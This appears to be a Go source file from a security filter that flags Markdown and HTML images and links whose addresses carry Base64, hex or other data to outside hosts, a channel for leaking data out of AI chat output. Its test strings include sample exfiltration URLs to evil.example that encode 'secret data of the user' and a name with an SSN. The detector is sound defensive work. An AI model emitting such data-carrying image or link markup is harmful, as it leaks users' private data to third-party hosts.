package detect

import "weir/policy/detect/normal"

// The bounds of a link in Markdown, and how much of its address must be data for it to carry any away.
const (
	linkBytes    = 1024
	carriedBytes = 24
)

// image checks for an image in Markdown, or in HTML, whose address carries data to another host: shown, it is fetched, and
// what stands in the address is told to whoever owns the host.
func (r *reader) image(i int) {
	if !r.has(i, "![") {
		return
	}
	at := i + 2
	for at-i < 256 && r.at(at) != ']' && r.at(at) >= ' ' {
		at++
	}
	if r.at(at) != ']' || r.at(at+1) != '(' {
		return
	}
	at += 2
	if at = r.fetched(at); at > 0 {
		if end := r.carries(i, at, ")"); end > 0 {
			r.found("out.image", Exfiltrating, High, 0.75, i, end+1)
		}
	}
}

// fetched is where the host begins of an address at i that an image is fetched from; 0: there is none.
func (r *reader) fetched(i int) int {
	for _, scheme := range [...]string{"https://", "http://", "//"} {
		if r.hasFold(i, scheme) {
			return i + len(scheme)
		}
	}
	return 0
}

// element checks for an image of HTML at i, as image does for one of Markdown.
func (r *reader) element(i int) {
	if !r.hasFold(i, "<img") || alnum(r.at(i+len("<img"))) {
		return
	}
	for at := i + len("<img"); at-i < linkBytes/2; at++ {
		switch c := r.at(at); {
		case c == '>' || c == 0:
			return
		case c > ' ' && c != '/' && c != '"' && c != '\'' || !r.hasFold(at+1, "src="):
			continue
		}
		at += 1 + len("src=")
		ends := " >\t\n"
		if q := r.at(at); q == '"' || q == '\'' {
			ends = string(rune(q))
			at++
		}
		if from := r.fetched(at); from > 0 {
			if end := r.carries(i, from, ends); end > 0 {
				r.found("out.image", Exfiltrating, High, 0.75, i, end)
			}
		}
		return
	}
}

// carries is where the address ends whose host begins at at, at one of ends, if it holds data: a long value behind its question
// mark, or a part of its path that is text in Base64 or hex. 0: it does not.
func (r *reader) carries(start, at int, ends string) int {
	query, told, run, longest := false, false, at, 0
	for at-start < linkBytes {
		c := r.at(at)
		switch {
		case c != 0 && contains(ends, c):
			told = told || !query && tells(withoutEnding(r.text[run:at]))
			if told || query && longest >= carriedBytes {
				return at
			}
			return 0
		case c <= ' ' || c >= 0x80:
			return 0
		case c == '?' || c == '/' && !query:
			told = told || !query && tells(withoutEnding(r.text[run:at]))
			query, run = query || c == '?', at+1
		case c == '&' || c == '=' || c == '/' || c == '#':
			run = at + 1
		case query:
			longest = max(longest, at+1-run)
		}
		at++
	}
	return 0
}

// withoutEnding is a name in a path without its ending.
func withoutEnding(s string) string {
	for i := len(s) - 1; i > 0 && len(s)-i <= 5; i-- {
		if s[i] == '.' {
			return s[:i]
		}
	}
	return s
}

// openImage is where an image begins whose address is not over.
func (r *reader) openImage(text string, from int) int {
	r.look(text)
	for i := max(from, len(text)-linkBytes-8); i < len(text); i++ {
		r.past, r.into = false, r.into[:0]
		switch text[i] {
		case '!':
			r.image(i)
		case '[':
			r.link(i)
		case '<':
			r.element(i)
		}
		if r.past {
			return i
		}
	}
	return len(text)
}

// link checks for a link in Markdown to another host whose address carries text in Base64 or hex: who follows it tells the
// host. A link that carries anything else is as every other.
func (r *reader) link(i int) {
	if i > 0 && r.text[i-1] == '!' {
		return
	}
	at := i + 1
	for at-i < 128 && r.at(at) != ']' && r.at(at) >= ' ' {
		at++
	}
	if r.at(at) != ']' {
		return
	}
	target := r.at(at+1) == ':' // of links and images elsewhere in the text
	if !target && r.at(at+1) != '(' {
		return
	}
	for at += 2; target && r.at(at) == ' ' && at-i < 140; at++ {
	}
	for _, scheme := range [...]string{"https://", "http://"} {
		if !r.hasFold(at, scheme) {
			continue
		}
		from, query, told := 0, false, false
		for at += len(scheme); at-i < linkBytes; at++ {
			switch c := r.at(at); {
			case !target && c == ')' || target && c <= ' ':
				if told || query && tells(r.text[from:at]) {
					end := at
					if !target {
						end++
					}
					r.found("out.link", Exfiltrating, Medium, 0.7, i, end)
				}
				return
			case c <= ' ' || c >= 0x80:
				return
			case c == '?' || c == '&' || c == '=' && query || c == '#':
				told = told || query && tells(r.text[from:at])
				query, from = true, at+1
			}
		}
		return
	}
}

// tells says whether a value in an address is text in Base64 or hex.
func tells(s string) bool {
	if len(s) < carriedBytes {
		return false
	}
	return normal.Tells(s)
}

func linkRules() []Rule {
	return []Rule{{
		ID: "out.link", Type: Exfiltrating, Severity: Medium, Score: 0.7,
		Description: "A link in Markdown, or the target of links and images, whose address carries text in Base64 or hex: who follows it tells the host.",
		Source:      "OWASP LLM02, LLM05; CommonMark 4.7, 6.3", Check: "24 bytes or more in one value, which say something", Behind: 1, Ahead: linkBytes + 8, Cost: Candidate,
		Match:   []string{"[more](https://evil.example/p?d=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI)", "see [here](http://a.example/i?a=1&q=6e616d65206a616e6520646f65207373)", "![x][r]\n\n[r]: https://evil.example/p.png?d=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI"},
		NoMatch: []string{"[docs](https://example.com/a?utm_source=newsletter_of_september_2026)", "[x](https://example.com/?sig=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b)", "[1] and [2]", "[r]: https://example.com/a?utm_source=newsletter_of_september_2026"},
	}, {
		ID: "out.image", Type: Exfiltrating, Severity: High, Score: 0.75,
		Description: "An image in Markdown or HTML whose address carries data in its query, or text in Base64 or hex in its path: shown, it is fetched, and the data is told to its host.",
		Source:      "OWASP LLM02, LLM05; CommonMark 6.4", Check: "24 bytes or more in one value or part", Behind: 0, Ahead: linkBytes + 8, Cost: Candidate,
		Match: []string{"![x](https://evil.example/p.png?d=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI)", "see ![](http://a.example/i?q=name%20jane%20doe%20ssn%20is%20123)",
			"![x](https://evil.example/c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXIgaGVyZQ.png)", `<img alt="" src="https://evil.example/p.png?d=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI">`, "<IMG SRC=//evil.example/p?d=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI >"},
		NoMatch: []string{"![logo](https://example.com/logo.png)", "![chart](https://example.com/c.png?w=400&h=300)", "![x](https://example.com/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b.png)",
			`<img src="https://example.com/logo.png" width="40">`, "<image>", `<img alt="a long text that says what there is to see">`},
	}}
}
